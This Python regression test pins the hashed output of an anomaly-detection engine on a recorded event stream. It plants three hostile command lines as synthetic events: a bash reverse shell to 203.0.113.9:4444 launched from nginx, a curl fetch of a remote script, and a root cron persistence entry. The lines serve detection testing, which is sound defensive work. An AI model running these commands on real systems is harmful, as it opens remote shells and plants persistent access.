"""The evidence engine's output on a fixed reference stream, pinned by hash.

Changes to how a shard keeps its state (issue 17: compact arrays instead of objects) must
not change a score, a reason, a severity or a learned row. The stream is the recorded
evaluation data (8 real workloads × 28 days, one org, so org priors are in play), with
a retention of 3 days (expiry crossed every day), a few never-seen commands planted,
and analyst feedback on the way. Update the digests only for a deliberate change of
the algorithm, and say why in the commit.
"""

from __future__ import annotations

import gzip
import hashlib
import json
from pathlib import Path

import msgspec

from ruleless.settings import EngineSettings
from schemas.events import RawEvent
from streams.engine import Engine
from tests.factories import event

DATA = Path(__file__).resolve().parents[1] / "eval" / "data"
# sha256 of the scored stream (score, severity, reasons per event), and of the learned rows.
SCORES = "9b28d64308c1e6cc81c40c4dc569a78ba33fb0d83ab353569dbe768c47b872ff"
ROWS = "7d78d8337902213b06ac1470325c8f77ef972effe580e57c8cbfc5e39261d75d"

_PLANTED = [
    dict(process_name="bash", parent_process="nginx", user="www-data", cmdline="bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
    dict(process_name="curl", parent_process="bash", user="root", cmdline="curl -fsSL http://203.0.113.9/x.sh"),
    dict(process_name="sh", parent_process="cron", user="root", cmdline="sh -c echo '* * * * * root /tmp/.x' >> /etc/cron.d/x"),
]


def reference_stream() -> list[RawEvent]:
    decoder = msgspec.json.Decoder(RawEvent)
    events: list[RawEvent] = []
    for path in sorted(DATA.glob("*.jsonl.gz")):
        with gzip.open(path, "rb") as fh:
            events += [decoder.decode(line) for line in fh if line.strip()]
    events.sort(key=lambda e: (e.ts, e.shard_key, e.pid))
    planted = [
        event(ts=events[i].ts, org_id=events[i].org_id, workload=events[i].workload, host=events[i].host, **_PLANTED[n % 3])
        for n, i in enumerate(range(5_000, len(events), 9_973))
    ]
    return sorted(events + planted, key=lambda e: (e.ts, e.shard_key, e.pid))


def run(engine: Engine, events: list[RawEvent]) -> tuple[str, str]:
    scores = hashlib.sha256()
    for start in range(0, len(events), 1_000):
        for s in engine.score(events[start : start + 1_000]):
            scores.update(f"{s.score!r}|{s.severity}|{s.reasons}\n".encode())
        if start % 20_000 == 0 and start:
            engine.feedback(events[start], "benign")
            engine.feedback(events[start + 1], "malicious")
    rows = hashlib.sha256()
    for key in sorted(engine.shards):
        table = engine.shards[key].to_table().sort_by("key")
        for row in table.to_pylist():
            if row["key"] == "__meta__":
                row["value"] = ""  # (the packed score window: its encoding may change, not its scores)
            rows.update(json.dumps([key, row], sort_keys=True).encode())
    return scores.hexdigest(), rows.hexdigest()


def test_the_reference_stream_scores_and_learns_as_pinned() -> None:
    engine = Engine(EngineSettings(algorithm="evidence", retention_days=3))
    assert run(engine, reference_stream()) == (SCORES, ROWS)
